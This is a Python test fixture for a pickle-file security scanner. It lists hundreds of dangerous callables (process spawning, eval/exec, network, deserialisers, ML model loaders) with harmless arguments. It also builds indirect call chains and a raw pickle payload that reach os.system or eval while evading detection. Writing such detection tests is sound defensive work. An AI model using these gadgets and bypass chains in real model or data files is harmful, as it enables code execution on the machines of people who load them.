"""What the hostile files call: single names, chains of them, and the files that are no pickles.

The second half of each list was written after the scanner was mended by the first."""
import json, struct
from hostile import Apply, Call, Code, Name, stream, text4, tuple_of, value

URL = "http://127.0.0.1:9/"
FIRST = [
    ("os", "system", ("true",)), ("posix", "system", ("true",)), ("nt", "system", ("true",)),
    ("os", "popen", ("true",)), ("os", "execv", ("/bin/true", ["true"])), ("os", "execvp", ("true", ["true"])),
    ("os", "spawnlp", (0, "true", "true")), ("os", "posix_spawn", ("/bin/true", ["true"], {})), ("os", "fork", ()),
    ("os", "remove", ("/nonexistent/x",)), ("os", "unlink", ("/nonexistent/x",)), ("os", "putenv", ("A", "b")),
    ("os", "kill", (0, 0)), ("os", "abort", ()), ("os", "_exit", (0,)), ("os", "listdir", ("/nonexistent",)),
    ("os", "startfile", ("x",)), ("os", "getcwd", ()), ("os", "getenv", ("HOME",)),
    ("subprocess", "Popen", (["true"],)), ("subprocess", "run", (["true"],)), ("subprocess", "call", (["true"],)),
    ("subprocess", "check_output", (["true"],)), ("subprocess", "getoutput", ("true",)),
    ("commands", "getoutput", ("true",)), ("pty", "spawn", ("true",)), ("popen2", "popen3", ("true",)),
    ("builtins", "eval", ("None",)), ("builtins", "exec", ("pass",)), ("builtins", "compile", ("pass", "x", "exec")),
    ("builtins", "__import__", ("os",)), ("builtins", "open", ("/nonexistent/x",)), ("builtins", "getattr", ("x", "__class__")),
    ("builtins", "breakpoint", ()), ("builtins", "globals", ()), ("builtins", "input", ()), ("builtins", "exit", ()),
    ("__builtin__", "eval", ("None",)), ("__builtin__", "execfile", ("x",)), ("__builtin__", "apply", (1,)),
    ("__builtin__", "file", ("x",)), ("builtins", "print", ("loaded",)), ("builtins", "setattr", ("a", "b", 1)),
    ("runpy", "run_path", ("/nonexistent/x.py",)), ("runpy", "_run_code", ("pass", {})), ("runpy", "run_module", ("this",)),
    ("importlib", "import_module", ("this",)), ("importlib", "__import__", ("this",)), ("imp", "load_source", ("a", "b")),
    ("importlib.util", "spec_from_file_location", ("a", "b")), ("importlib.machinery", "SourceFileLoader", ("a", "b")),
    ("pip", "main", (["--version"],)), ("pip._internal", "main", (["--version"],)), ("pip._internal.cli.main", "main", (["--version"],)),
    ("pkgutil", "resolve_name", ("os:system",)), ("zipimport", "zipimporter", ("x.zip",)),
    ("code", "interact", ()), ("code", "InteractiveInterpreter", ()), ("codeop", "compile_command", ("pass",)),
    ("timeit", "timeit", ("pass", "pass", None, 1)), ("timeit", "repeat", ("pass",)), ("timeit", "Timer", ("pass",)),
    ("cProfile", "run", ("pass",)), ("cProfile", "runctx", ("pass", {}, {})), ("profile", "run", ("pass",)),
    ("profile", "Profile.run", ("pass",)), ("pdb", "run", ("pass",)), ("pdb", "runeval", ("None",)), ("pdb", "Pdb", ()),
    ("bdb", "Bdb.run", ("pass",)), ("bdb", "Bdb", ()), ("trace", "Trace.run", ("pass",)), ("trace", "Trace", ()),
    ("doctest", "debug_script", ("pass",)), ("doctest", "testfile", ("x",)), ("unittest", "main", ()),
    ("webbrowser", "open", (URL,)), ("webbrowser", "get", ("x",)), ("antigravity", "geohash", (1, 2, b"x")),
    ("ctypes", "CDLL", ("libc.so.6",)), ("ctypes", "PyDLL", ("x",)), ("ctypes.util", "find_library", ("c",)),
    ("ctypes", "cast", (0, 0)), ("cffi", "FFI", ()), ("mmap", "mmap", (0, 1)),
    ("socket", "socket", ()), ("socket", "create_connection", (("127.0.0.1", 9),)), ("ssl", "create_default_context", ()),
    ("smtplib", "SMTP", ("127.0.0.1", 9)), ("ftplib", "FTP", ("127.0.0.1",)), ("telnetlib", "Telnet", ("127.0.0.1",)),
    ("poplib", "POP3", ("127.0.0.1",)), ("imaplib", "IMAP4", ("127.0.0.1",)), ("xmlrpc.client", "ServerProxy", (URL,)),
    ("urllib.request", "urlopen", (URL,)), ("urllib.request", "urlretrieve", (URL, "x")), ("urllib", "urlopen", (URL,)),
    ("urllib2", "urlopen", (URL,)), ("http.client", "HTTPConnection", ("127.0.0.1",)), ("http.client", "HTTPSConnection", ("127.0.0.1",)),
    ("requests", "get", (URL,)), ("requests.api", "post", (URL,)), ("httpx", "get", (URL,)), ("aiohttp", "ClientSession", ()),
    ("http.server", "test", ()), ("socketserver", "TCPServer", (("", 0), None)), ("wsgiref.simple_server", "make_server", ("", 0, None)),
    ("asyncio", "create_subprocess_shell", ("true",)), ("asyncio", "run", (None,)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", (None, "true", True, None, None, None, 0)),
    ("multiprocessing", "Process", ()), ("multiprocessing.util", "spawnv_passfds", (b"x", [], [])), ("multiprocessing.pool", "Pool", ()),
    ("concurrent.futures", "ThreadPoolExecutor", ()), ("threading", "Thread", ()), ("_thread", "start_new_thread", (1, ())),
    ("distutils.spawn", "spawn", (["true"],)), ("distutils.file_util", "write_file", ("x", [])), ("distutils.core", "run_setup", ("x",)),
    ("setuptools", "setup", ()), ("idlelib.pyshell", "ModifiedInterpreter.runcode", (None, None)), ("idlelib.run", "Executive.runcode", (None, "pass")),
    ("idlelib.autocomplete", "AutoComplete.get_entity", (None, "None")), ("idlelib.calltip", "Calltip.fetch_tip", (None, "None")),
    ("idlelib.calltip", "get_entity", ("None",)), ("idlelib.debugobj", "ObjectTreeItem.SetText", (None, "None")),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (None, b"x")), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, None, "x")),
    ("test.support.script_helper", "assert_python_ok", ("-c", "pass")), ("test.support", "run_with_locale", ()),
    ("ensurepip", "_run_pip", ([],)), ("venv", "create", ("x",)), ("pydoc", "pipepager", ("x", "true")), ("pydoc", "locate", ("os.system",)),
    ("pydoc", "safeimport", ("this",)), ("_pyrepl.pager", "pipe_pager", ("x", "true")), ("uuid", "_get_command_stdout", ("true",)),
    ("_aix_support", "_read_cmd_output", ("true",)), ("_osx_support", "_read_output", ("true",)), ("platform", "popen", ("true",)),
    ("mailcap", "findmatch", ({}, "x")), ("nturl2path", "url2pathname", ("x",)), ("linecache", "getline", ("x", 1)),
    ("marshal", "loads", (b"N",)), ("types", "CodeType", (0,)), ("types", "FunctionType", (None, {})), ("types", "ModuleType", ("x",)),
    ("pickle", "loads", (b"N.",)), ("_pickle", "loads", (b"N.",)), ("cPickle", "loads", (b"N.",)), ("pickle", "Unpickler", (None,)),
    ("shelve", "open", ("x",)), ("dbm", "open", ("x",)), ("dill", "loads", (b"N.",)), ("cloudpickle", "loads", (b"N.",)),
    ("dill", "load", (None,)), ("joblib", "load", ("x",)), ("joblib.numpy_pickle", "load", ("x",)), ("numpy", "load", ("x", None, True)),
    ("numpy", "fromfile", ("x",)), ("numpy", "save", ("x", 1)), ("numpy", "memmap", ("x",)), ("numpy.lib.npyio", "load", ("x",)),
    ("torch", "load", ("x",)), ("torch.serialization", "load", ("x",)), ("torch.hub", "load", ("a/b", "c")), ("torch.hub", "load_state_dict_from_url", (URL,)),
    ("torch.hub", "download_url_to_file", (URL, "x")), ("torch.jit", "load", ("x",)), ("torch.ops", "load_library", ("x.so",)),
    ("torch.classes", "load_library", ("x.so",)), ("torch.utils.cpp_extension", "load_inline", ("x", "")), ("torch.utils.model_zoo", "load_url", (URL,)),
    ("torch.utils._config_module", "ConfigModule.load_config", (None, b"N.")), ("torch._inductor.codecache", "compile_file", ("x", "y", "true")),
    ("torch.utils.collect_env", "run", ("true",)), ("torch.utils.bottleneck.__main__", "run_cprofile", ("pass", {})),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", ("pass", {})), ("torch.jit.unsupported_tensor_ops", "execWrapper", ("pass", {}, {})),
    ("torch._dynamo.guards", "GuardBuilder.get", (None, "None")), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (None, "None", [])),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pkl", b"N.")), ("torch.package", "PackageImporter", ("x",)),
    ("torch.distributed.rpc", "rpc_sync", ("x",)), ("torch.multiprocessing", "spawn", (None,)), ("torch.fx", "symbolic_trace", (None,)),
    ("torch.onnx", "export", (None,)), ("torch", "save", (None, "x")), ("torch", "compile", (None,)),
    ("numpy.testing._private.utils", "runstring", ("pass", {})), ("numpy.testing", "runstring", ("pass", {})),
    ("numpy.f2py.crackfortran", "myeval", ("None",)), ("numpy.f2py.crackfortran", "getlincoef", ("1", {})), ("numpy.f2py.crackfortran", "param_eval", ("1", {}, {})),
    ("numpy.f2py", "compile", ("x",)), ("numpy.distutils.exec_command", "exec_command", ("true",)), ("numpy.core.os", "system", ("true",)),
    ("numpy.ctypeslib", "load_library", ("x", "y")), ("numpy.lib.utils", "safe_eval", ("1",)),
    ("pandas", "eval", ("1",)), ("pandas.core.computation.eval", "eval", ("1",)), ("pandas", "read_pickle", ("x",)), ("pandas.io.pickle", "read_pickle", ("x",)),
    ("pandas", "read_csv", (URL,)), ("pandas", "DataFrame.query", (None, "a")), ("pandas", "DataFrame.eval", (None, "a")), ("pandas.io.common", "urlopen", (URL,)),
    ("pandas", "read_sql", ("select 1", "x")), ("pandas.core.frame", "DataFrame.to_csv", (None, "x")), ("pandas", "read_html", (URL,)),
    ("sklearn.datasets", "fetch_openml", ("x",)), ("sklearn.utils._testing", "assert_run_python_script_without_output", ("pass",)),
    ("sklearn.datasets._base", "_fetch_remote", (None,)), ("scipy.io", "loadmat", ("x",)), ("scipy.datasets", "download_all", ()), ("scipy._lib._testutils", "check_free_memory", (1,)),
    ("transformers", "pipeline", ("x",)), ("transformers", "AutoModel.from_pretrained", ("a/b",)), ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("a.B", "c/d")),
    ("transformers.utils.hub", "cached_file", ("a", "b")), ("huggingface_hub", "hf_hub_download", ("a", "b")), ("huggingface_hub", "snapshot_download", ("a",)),
    ("datasets", "load_dataset", ("a",)), ("diffusers", "DiffusionPipeline.from_pretrained", ("a",)), ("timm", "create_model", ("a",)),
    ("shutil", "rmtree", ("/nonexistent",)), ("shutil", "copyfile", ("/nonexistent/a", "b")), ("shutil", "make_archive", ("a", "zip")), ("tempfile", "mkstemp", ()),
    ("pathlib", "Path.write_text", (None, "x")), ("pathlib", "Path.unlink", (None,)), ("io", "open", ("/nonexistent/x",)), ("_io", "FileIO", ("/nonexistent/x",)),
    ("codecs", "open", ("/nonexistent/x",)), ("fileinput", "input", ("x",)), ("zipfile", "ZipFile", ("x",)), ("tarfile", "open", ("x",)),
    ("sqlite3", "connect", (":memory:",)), ("logging", "FileHandler", ("x",)), ("logging.config", "fileConfig", ("x",)), ("logging.config", "listen", ()),
    ("sys", "exit", ()), ("sys", "settrace", (None,)), ("sys", "setrecursionlimit", (10,)), ("gc", "get_objects", ()), ("inspect", "currentframe", ()), ("atexit", "register", (None,)),
    ("signal", "alarm", (0,)), ("faulthandler", "_sigsegv", ()), ("resource", "setrlimit", (0, (0, 0))), ("site", "main", ()), ("compileall", "compile_file", ("x",)),
    ("py_compile", "compile", ("x",)), ("modulefinder", "ModuleFinder", ()), ("cgitb", "enable", ()), ("rlcompleter", "Completer", ()), ("getpass", "getpass", ()),
    ("operator", "methodcaller", ("system", "true")), ("operator", "attrgetter", ("system.__globals__",)), ("functools", "reduce", (None, [])),
    ("copyreg", "add_extension", ("os", "system", 5)), ("tkinter", "Tk", ()), ("turtle", "write", ("x",)), ("curses", "initscr", ()),
    ("IPython", "start_ipython", ()), ("IPython.utils.process", "system", ("true",)), ("ipykernel", "embed", ()), ("sympy", "sympify", ("1",)),
    ("sympy.parsing.sympy_parser", "parse_expr", ("1",)), ("jinja2", "Template", ("x",)), ("mako.template", "Template", ("x",)), ("yaml", "unsafe_load", ("1",)),
    ("numexpr", "evaluate", ("1",)), ("keras.models", "load_model", ("x",)), ("tensorflow.io", "write_file", ("a", "b")), ("tensorflow", "py_function", (None,)),
    ("mlflow.pyfunc", "load_model", ("x",)), ("nltk.data", "load", ("x",)), ("psutil", "Popen", (["true"],)), ("paramiko", "SSHClient", ()), ("fabric", "Connection", ("x",)),
    ("pexpect", "spawn", ("true",)), ("sh", "Command", ("true",)), ("plumbum", "local", ()), ("git", "Repo.clone_from", (URL, "x")), ("boto3", "client", ("s3",)),
    ("builtins", "type", ("X", (), {})), ("builtins", "delattr", ("a", "b")), ("builtins", "help", ()), ("builtins", "vars", ()), ("builtins", "dir", ()), ("builtins", "memoryview.__new__", ()),
    ("time", "sleep", (0,)), ("sched", "scheduler", ()), ("queue", "Queue", ()), ("string", "Formatter.vformat", (None, "{0.__class__}", [], {})), ("ast", "literal_eval", ("1",)),
    ("xml.etree.ElementTree", "parse", ("x",)), ("xml.dom.minidom", "parse", ("x",)), ("email", "message_from_file", (None,)), ("csv", "reader", ([],)), ("configparser", "ConfigParser.read", (None, "x")),
    ("gzip", "open", ("/nonexistent/x",)), ("bz2", "BZ2File", ("/nonexistent/x",)), ("lzma", "open", ("/nonexistent/x",)), ("zipapp", "create_archive", ("x",)), ("http.cookiejar", "MozillaCookieJar.load", (None, "x")),
]

SECOND = [
    ("os", "execlpe", ("true", "true", {})), ("os", "spawnvpe", (0, "true", ["true"], {})), ("os", "posix_spawnp", ("true", ["true"], {})), ("os", "forkpty", ()),
    ("os", "truncate", ("/nonexistent/x", 0)), ("os", "chmod", ("/nonexistent/x", 0)), ("os", "symlink", ("a", "/nonexistent/b")), ("os", "open", ("/nonexistent/x", 0)), ("os", "walk", ("/nonexistent",)), ("os", "environ.get", ("HOME",)),
    ("posix", "posix_spawn", ("/bin/true", ["true"], {})), ("posix", "execve", ("/bin/true", ["true"], {})), ("subprocess", "getstatusoutput", ("true",)), ("subprocess", "_args_from_interpreter_flags", ()), ("_posixsubprocess", "fork_exec", ()),
    ("_winapi", "CreateProcess", ("x",)), ("_ctypes", "dlopen", ("x", 0)), ("_ctypes", "call_function", (0, ())), ("_socket", "socket", ()), ("_io", "open", ("/nonexistent/x",)), ("_imp", "create_dynamic", (None,)),
    ("_frozen_importlib", "_gcd_import", ("this",)), ("_frozen_importlib_external", "SourceFileLoader", ("a", "b")), ("importlib._bootstrap", "_gcd_import", ("this",)), ("importlib._bootstrap_external", "FileLoader", ("a", "b")),
    ("code", "InteractiveConsole.runsource", (None, "pass")), ("code", "compile_command", ("pass",)), ("asyncio.base_events", "BaseEventLoop.subprocess_shell", (None,)), ("asyncio.subprocess", "create_subprocess_exec", ("true",)),
    ("xmlrpc.server", "SimpleXMLRPCServer", (("", 0),)), ("xmlrpc.client", "loads", ("x",)), ("http.server", "HTTPServer", (("", 0), None)), ("urllib.request", "build_opener", ()), ("urllib.request", "URLopener", ()), ("urllib.parse", "urlparse", (URL,)), ("urllib.robotparser", "RobotFileParser", (URL,)),
    ("nntplib", "NNTP", ("127.0.0.1",)), ("smtpd", "SMTPServer", ()), ("asyncore", "dispatcher", ()), ("asynchat", "async_chat", ()), ("selectors", "DefaultSelector", ()), ("select", "poll", ()), ("cgi", "test", ()), ("crypt", "crypt", ("a", "b")), ("spwd", "getspall", ()), ("pwd", "getpwall", ()),
    ("nis", "cat", ("a", "b")), ("syslog", "syslog", ("x",)), ("audioop", "add", (b"a", b"b", 1)), ("ossaudiodev", "open", ("r",)), ("pipes", "Template", ()), ("pipes", "quote", ("x",)), ("msilib", "OpenDatabase", ("x",)), ("winsound", "Beep", (1, 1)), ("winreg", "OpenKey", (1, "x")),
    ("plistlib", "load", (None,)), ("getopt", "getopt", ([], "")), ("optparse", "OptionParser.parse_args", (None,)), ("argparse", "FileType", ("w",)), ("argparse", "ArgumentParser.parse_args", (None,)), ("cmd", "Cmd.onecmd", (None, "x")), ("shlex", "split", ("a b",)), ("stringprep", "in_table_a1", ("a",)),
    ("textwrap", "dedent", ("x",)), ("warnings", "warn", ("x",)), ("weakref", "finalize", (None, None)), ("contextlib", "ExitStack.callback", (None, None)), ("contextvars", "Context.run", (None,)), ("dataclasses", "make_dataclass", ("X", ["a"])), ("dataclasses", "_create_fn", ("x", [], [])),
    ("collections", "namedtuple.__globals__", ()), ("enum", "Enum._create_", ()), ("typing", "get_type_hints", (None,)), ("typing", "ForwardRef._evaluate", (None, {}, {}, [])), ("inspect", "getattr_static", (1, "x")), ("inspect", "getsource", (None,)), ("dis", "dis", ("pass",)), ("symtable", "symtable", ("pass", "x", "exec")),
    ("tokenize", "open", ("x",)), ("tabnanny", "check", ("x",)), ("pyclbr", "readmodule", ("this",)), ("pkgutil", "get_data", ("a", "b")), ("pkgutil", "walk_packages", ()), ("runpy", "_run_module_code", ("pass",)), ("sysconfig", "_parse_makefile", ("x",)), ("sysconfig", "parse_config_h", (None,)),
    ("unittest.mock", "patch", ("os.system",)), ("unittest.mock", "_importer", ("os",)), ("unittest.loader", "TestLoader.loadTestsFromName", (None, "x")), ("test.support", "import_helper.import_module", ("os",)), ("test.libregrtest.main", "main", ()), ("turtledemo.__main__", "main", ()),
    ("idlelib.rpc", "RPCServer", (("", 0),)), ("idlelib.run", "main", ()), ("idlelib.config", "IdleConf", ()), ("lib2to3.main", "main", ("x",)), ("lib2to3.pgen2.driver", "load_grammar", ("x",)), ("distutils.util", "byte_compile", ([],)), ("distutils.dir_util", "remove_tree", ("/nonexistent",)), ("distutils.sysconfig", "get_python_inc", ()),
    ("wave", "open", ("x",)), ("sunau", "open", ("x",)), ("aifc", "open", ("x",)), ("imghdr", "what", ("x",)), ("sndhdr", "what", ("x",)), ("mimetypes", "init", (["x"],)), ("netrc", "netrc", ("x",)), ("mailbox", "mbox", ("x",)), ("uu", "decode", ("x",)), ("binhex", "binhex", ("a", "b")), ("quopri", "decode", (None, None)), ("xdrlib", "Packer", ()),
    ("ctypes", "string_at", (0,)), ("ctypes", "memmove", (0, 0, 0)), ("ctypes", "WinDLL", ("x",)), ("ctypes", "util.find_library", ("c",)), ("locale", "setlocale", (0, "C")), ("gettext", "translation", ("x",)), ("gettext", "c2py", ("n",)), ("formatter", "test", ()), ("symbol", "_main", ()), ("pyexpat", "ParserCreate", ()),
    ("numpy.lib._datasource", "DataSource", ("x",)), ("numpy.lib.format", "open_memmap", ("x",)), ("numpy.lib.format", "read_array", (None,)), ("numpy.lib._npyio_impl", "load", ("x",)), ("numpy.testing", "measure", ("pass",)), ("numpy.testing", "rundocs", ("x",)), ("numpy.testing._private.extbuild", "build_and_import_extension", ("x", [])), ("numpy._core._internal", "_ctypes", ()), ("numpy", "genfromtxt", (URL,)), ("numpy.ma.core", "load", ("x",)), ("numpy.random.setup", "configuration", ()), ("numpy.f2py.diagnose", "run_command", ("true",)), ("numpy.f2py.capi_maps", "load_f2cmap_file", ("x",)), ("numpy", "apply_along_axis", (None,)), ("numpy", "frompyfunc", (None, 1, 1)), ("numpy", "fromstring", ("1",)),
    ("scipy.io.wavfile", "read", ("x",)), ("scipy._lib.uarray", "set_backend", ("x",)), ("scipy.fft", "set_backend", ("x",)), ("scipy.weave", "inline", ("x",)), ("scipy.optimize", "fmin", (None, 1)), ("scipy.integrate", "quad", (None, 0, 1)), ("scipy.LowLevelCallable", "from_cython", (None, "x")), ("scipy.misc.common", "who", ()),
    ("sklearn.externals.joblib", "load", ("x",)), ("sklearn.utils._metadata_requests", "process_routing", (None,)), ("sklearn.utils", "all_estimators", ()), ("sklearn.utils.discovery", "all_functions", ()), ("sklearn.datasets", "load_svmlight_file", ("x",)), ("sklearn.linear_model.setup", "configuration", ()), ("sklearn.utils.fixes", "_open_text", ("a", "b")), ("sklearn.base", "clone", (None,)), ("sklearn.utils.parallel", "Parallel", ()), ("sklearn._build_utils", "cythonize_extensions", ()),
    ("joblib.externals.cloudpickle", "loads", (b"N.",)), ("joblib.externals.loky.backend.spawn", "spawnv", ([],)), ("joblib.externals.loky", "get_reusable_executor", ()), ("joblib.memory", "Memory", ("x",)), ("joblib", "Parallel", ()), ("joblib.func_inspect", "get_func_code", (None,)), ("joblib.numpy_pickle_compat", "load_compatibility", ("x",)), ("joblib.pool", "MemmappingPool", ()), ("joblib._utils", "eval_expr", ("1",)), ("joblib.disk", "rm_subdirs", ("/nonexistent",)), ("joblib.test.common", "with_numpy", (None,)),
    ("pandas.io.parsers", "read_csv", ("x",)), ("pandas.io.sql", "execute", ("select 1", "x")), ("pandas.io.clipboards", "read_clipboard", ()), ("pandas.io.clipboard", "paste", ()), ("pandas.compat.pickle_compat", "load", (None,)), ("pandas.compat.pickle_compat", "loads", (b"N.",)), ("pandas.util._tester", "test", ()), ("pandas.core.generic", "NDFrame.to_pickle", (None, "x")), ("pandas", "DataFrame.to_hdf", (None, "x", "y")), ("pandas", "HDFStore", ("x",)), ("pandas", "ExcelWriter", ("x",)), ("pandas.core.apply", "frame_apply", (None, None)), ("pandas", "DataFrame.pipe", (None, None)), ("pandas.core.computation.scope", "Scope", (0,)), ("pandas._testing", "set_timezone", ("x",)), ("pandas.io.html", "_read", (None,)),
    ("torch.storage", "_load_from_bytes", (b"cos\nsystem\n(Vtrue\ntR.",)), ("torch", "from_file", ("x",)), ("torch", "import_ir_module", ()), ("torch._C", "import_ir_module_from_buffer", (b"x",)), ("torch.jit", "CompilationUnit", ("x",)), ("torch.jit.frontend", "get_jit_def", (None, "x")), ("torch.jit._script", "script", (None,)), ("torch.library", "custom_op", ("x",)), ("torch.utils.cpp_extension", "_run_ninja_build", ("x",)), ("torch.utils.cpp_extension", "CppExtension", ("x", [])), ("torch.utils.file_baton", "FileBaton", ("x",)), ("torch.utils.dlpack", "from_dlpack", (None,)), ("torch.utils.checkpoint", "checkpoint", (None,)), ("torch.utils.data", "DataLoader", (None,)), ("torch.utils.data._utils.worker", "_worker_loop", ()), ("torch.utils.tensorboard", "SummaryWriter", ("x",)), ("torch.utils.mobile_optimizer", "optimize_for_mobile", (None,)), ("torch.nn.modules.lazy", "LazyModuleMixin._infer_parameters", (None,)), ("torch.distributed.run", "main", ()), ("torch.distributed.launcher.api", "elastic_launch", (None,)), ("torch.distributed.algorithms.join", "Join", ([],)), ("torch.testing._internal.common_utils", "shell", (["true"],)), ("torch.testing._internal.common_utils", "run_tests", ()), ("torch._export.serde.serialize", "deserialize", (None,)), ("torch.export", "load", ("x",)), ("torch._dynamo.debug_utils", "run_fwd_maybe_bwd", (None,)), ("torch._inductor.utils", "run_and_get_code", (None,)), ("torch._appdirs", "_get_win_folder_from_registry", ("x",)), ("torch._lobpcg", "lobpcg", (None,)), ("torch.fx.graph_module", "_exec_with_source", ("pass", {})), ("torch.fx.graph_module", "reduce_graph_module", ({}, "")), ("torch.fx.graph_module", "_forward_from_src", ("pass", {})), ("torch.fx.node", "_get_qualified_name", (None,)), ("torch.package.importer", "_SysImporter.import_module", (None, "os")), ("torch.backends.cuda", "is_built", ()), ("torch.cuda", "caching_allocator_delete", (0,)), ("torch.autograd.profiler", "profile", ()), ("torch._sources", "get_source_lines_and_file", (None,)), ("torch._weights_only_unpickler", "load", (None,)), ("torch._guards", "detect_fake_mode", (None,)), ("torch.nn.Module", "apply", (None, None)), ("torch.nn.modules.module", "Module.load_state_dict", (None, {})),
    ("transformers", "AutoTokenizer.from_pretrained", ("a/b",)), ("transformers.utils.import_utils", "_LazyModule", ("a",)), ("transformers.utils.import_utils", "direct_transformers_import", ("x",)), ("transformers.trainer_utils", "set_seed", (1,)), ("transformers.testing_utils", "execute_subprocess_async", (["true"],)), ("transformers.tools.python_interpreter", "evaluate", ("pass", {})), ("transformers.commands.run", "try_infer_format_from_ext", ("x",)), ("transformers.pipelines", "get_task", ("x",)), ("transformers.modeling_utils", "load_state_dict", ("x",)), ("transformers.file_utils", "cached_path", (URL,)), ("transformers.utils.chat_template_utils", "render_jinja_template", ("x",)),
    ("datasets.utils.file_utils", "get_from_cache", (URL,)), ("datasets.load", "dataset_module_factory", ("a",)), ("accelerate.commands.launch", "main", ()), ("accelerate.utils", "execute_subprocess_async", ()), ("peft", "PeftModel.from_pretrained", (None, "a")), ("diffusers.utils.dynamic_modules_utils", "get_cached_module_file", ("a", "b")), ("tokenizers", "Tokenizer.from_file", ("x",)), ("gensim.utils", "unpickle", ("x",)), ("gensim.downloader", "load", ("x",)), ("spacy", "load", ("x",)), ("spacy.cli", "download", ("x",)), ("spacy.util", "run_command", ("true",)), ("lightgbm", "Booster", (None, None, "x")), ("xgboost.training", "train", ({}, None)), ("xgboost", "DMatrix", ("x",)), ("catboost", "Pool", ("x",)), ("statsmodels.iolib.smpickle", "load_pickle", ("x",)), ("statsmodels.tools.eval_measures", "mse", (1, 1)), ("statsmodels.datasets.utils", "webuse", ("x",)), ("statsmodels.formula.api", "ols", ("y ~ x", None)), ("patsy.eval", "EvalEnvironment.eval", (None, "1")), ("pyarrow.fs", "LocalFileSystem.delete_dir", (None, "x")), ("pyarrow", "memory_map", ("x",)), ("omegaconf", "OmegaConf.load", ("x",)), ("lightning.pytorch.cli", "LightningCLI", ()), ("pytorch_lightning", "Trainer", ()), ("timm.models.hub", "load_state_dict_from_hf", ("a",)), ("ultralytics.utils.checks", "check_requirements", (["a"],)), ("ultralytics.utils.downloads", "safe_download", (URL,)), ("ultralytics", "YOLO", ("x.pt",)), ("skops.io", "load", ("x",)), ("safetensors.torch", "load_file", ("x",)), ("torchvision.datasets.utils", "download_url", (URL, "x")), ("torchvision.io", "write_file", ("x", None)), ("torchaudio", "load", ("x",)),
    ("hydra.utils", "instantiate", ({"_target_": "os.system"},)), ("hydra._internal.utils", "_locate", ("os.system",)), ("ray", "remote", (None,)), ("dask", "compute", (None,)), ("celery.app", "app_or_default", ()), ("flask", "Flask", ("x",)), ("django.core.management", "execute_from_command_line", ([],)), ("django.utils.module_loading", "import_string", ("os.system",)), ("werkzeug.utils", "import_string", ("os.system",)), ("twisted.internet.utils", "getProcessOutput", ("true",)), ("invoke", "run", ("true",)), ("docker", "from_env", ()), ("pyautogui", "typewrite", ("x",)), ("pynput.keyboard", "Listener", ()), ("win32api", "ShellExecute", (0, "open", "x")), ("sqlalchemy", "create_engine", ("sqlite://",)), ("redis", "Redis", ()), ("pymongo", "MongoClient", ()), ("selenium.webdriver", "Firefox", ()), ("playwright.sync_api", "sync_playwright", ()), ("gradio", "Interface", ()), ("streamlit.web.cli", "main", ()), ("cupy", "RawKernel", ("x", "y")), ("cython", "inline", ("pass",)), ("Cython.Build.Inline", "cython_inline", ("pass",)), ("numba", "jit", (None,)), ("pythran", "compile", ("x",)), ("tvm.runtime", "load_module", ("x",)), ("tensorrt", "Runtime", ()), ("onnxruntime", "InferenceSession", ("x",)), ("tensorflow.python.framework.load_library", "load_op_library", ("x",)), ("tensorflow.raw_ops", "ReadFile", ("x",)), ("keras.layers", "Lambda", (None,)), ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization", ()), ("mxnet.library", "load", ("x",)), ("paddle", "load", ("x",)), ("h5py", "File", ("x",)), ("pyttsx3", "init", ()), ("smolagents", "CodeAgent", ()), ("langchain.utilities", "BashProcess", ()), ("langchain_experimental.utilities", "PythonREPL.run", (None, "pass")), ("RestrictedPython", "compile_restricted", ("pass",)), ("asteval", "Interpreter", ()), ("simpleeval", "simple_eval", ("1",)), ("pyparsing", "exec", ()), ("attr._make", "_make_init", ()), ("attr._compat", "exec", ("pass",)), ("pydantic", "ImportString", ("os.system",)), ("pydantic.v1.utils", "import_string", ("os.system",)), ("dateutil.parser", "parse", ("x",)), ("decorator", "FunctionMaker.create", ("f(x)", "return 1", {})), ("bottleneck.src.bn_template", "make_c_files", ()), ("networkx", "read_gpickle", ("x",)), ("networkx.readwrite", "read_gml", ("x",)), ("matplotlib.pyplot", "savefig", ("x",)), ("matplotlib.cbook", "get_sample_data", ("x",)), ("PIL.ImageShow", "show", (None,)), ("PIL.Image", "open", ("x",)), ("PIL.ImageMath", "eval", ("1",)), ("cv2", "imread", ("x",)), ("imageio", "imread", ("x",)), ("skimage.io", "imread", (URL,)), ("wandb", "init", ()), ("mlflow.projects", "run", ("x",)), ("zmq", "Context", ()), ("cloudpickle.cloudpickle", "subimport", ("os",)), ("dill._dill", "_import_module", ("os.system",)), ("dill.source", "importable", (None,)), ("dill._dill", "_eval_repr", ("None",)), ("dill.session", "load_module", ("x",)), ("srsly", "read_json", ("x",)), ("srsly.ruamel_yaml", "load", ("x",)), ("ruamel.yaml", "load", ("x",)), ("toml", "load", ("x",)), ("jsonpickle.unpickler", "loadclass", ("os.system",)), ("klepto.archives", "file_archive", ("x",)), ("multiprocess.context", "Process", ()), ("pathos.multiprocessing", "ProcessPool", ()), ("ppft", "Server", ()), ("zict", "File", ("x",)),
]


def getattr_of(code, name):
    return Apply(Name("builtins", "getattr"), code, name)


def joined(*parts):
    return Apply(getattr_of(Code(lambda p: value("", p)), "join"), list(parts))


def first_chains():
    os_ = Call("builtins", "__import__", "os")
    yield "import_getattr", Apply(getattr_of(os_, "system"), "true")
    yield "importlib_getattr", Apply(getattr_of(Call("importlib", "import_module", "os"), "system"), "true")
    yield "module_through_module", Apply(getattr_of(Name("logging", "os"), "system"), "true")
    yield "module_dotted", Apply(Code(lambda p: text4("logging") + text4("os.system") + b"\x93"), "true")
    yield "shutil_os", Apply(Name("shutil", "os.system"), "true")
    yield "sys_modules", Apply(getattr_of(Apply(getattr_of(Name("sys", "modules"), "get"), "os"), "system"), "true")
    yield "builtins_dict", Apply(Apply(getattr_of(Name("builtins", "__dict__"), "get"), "eval"), "None")
    yield "attrgetter", Apply(Apply(Call("operator", "attrgetter", "system"), Name("posixpath", "os")), "true")
    yield "attrgetter_dotted", Apply(Apply(Call("operator", "attrgetter", "os.system"), Name("posixpath", "genericpath")), "true")
    yield "methodcaller", Apply(Call("operator", "methodcaller", "system", "true"), Name("logging", "os"))
    yield "itemgetter", Apply(Apply(Call("operator", "itemgetter", "eval"), Name("builtins", "__dict__")), "None")
    yield "partial", Apply(Call("functools", "partial", Name("os", "system"), "true"))
